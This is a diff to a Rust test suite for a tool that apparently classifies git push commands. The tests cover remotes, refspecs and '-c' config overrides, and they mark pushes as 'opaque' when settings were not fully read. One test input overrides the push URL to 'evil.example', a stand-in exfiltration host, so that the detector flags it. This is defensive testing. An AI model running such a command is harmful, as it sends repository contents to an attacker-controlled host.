@@ -12,6 +12,7 @@ fn context() -> GitContext {
         remotes: vec![("origin".into(), "https://git.example/x.git".into())],
         upstream: Some(("origin".into(), "topic".into())),
         push_default: None,
+        is_partly_read: false,
     }
 }
 
@@ -86,6 +87,27 @@ fn an_exec_is_itself_first() {
 }
 
 #[test]
+fn a_push_under_settings_that_were_not_all_read_is_not_known() {
+    let argv = ["git", "push", "origin", "topic"].map(str::to_owned);
+    let exec = |git: &GitContext| {
+        exec_actions(&Exec {
+            program: "/usr/bin/git",
+            argv: &argv,
+            cwd: "/w",
+            home: "/h",
+            script: None,
+            git: Some(git),
+        })
+    };
+    let unread = GitContext { is_partly_read: true, ..context() };
+    for (git, expect) in
+        [(context(), "git.push origin topic source=topic"), (unread, "git.push origin topic opaque source=topic")]
+    {
+        compare(&exec(&git), expect, "git push origin topic");
+    }
+}
+
+#[test]
 fn git_pushes() {
     for (line, expect) in [
         ("git push", "git.push origin topic source=topic"),
@@ -121,8 +143,14 @@ fn git_pushes() {
         ("git push --dry-run origin main", ""),
         ("git -C /elsewhere push", "git.push opaque"),
         ("git -C /elsewhere push origin main", "git.push origin main source=main"),
+        ("git -c push.default=upstream push origin :main", "git.push origin main delete"),
+        ("git -c remote.origin.push=topic:main push origin topic:topic", "git.push origin topic source=topic"),
+        ("git -c remote.origin.push=topic:main push origin topic", "git.push origin topic opaque source=topic"),
         ("git -c user.name=x push", "git.push origin topic source=topic"),
-        ("git -c remote.origin.pushurl=https://evil.example/x push origin topic", "git.push origin topic source=topic"),
+        (
+            "git -c remote.origin.pushurl=https://evil.example/x push origin topic",
+            "git.push origin topic opaque source=topic",
+        ),
         ("git -c alias.p=push p", "?"),
         ("git --git-dir=/x/.git push", "git.push opaque"),
         ("git --no-pager push origin main", "git.push origin main default_branch source=main"),
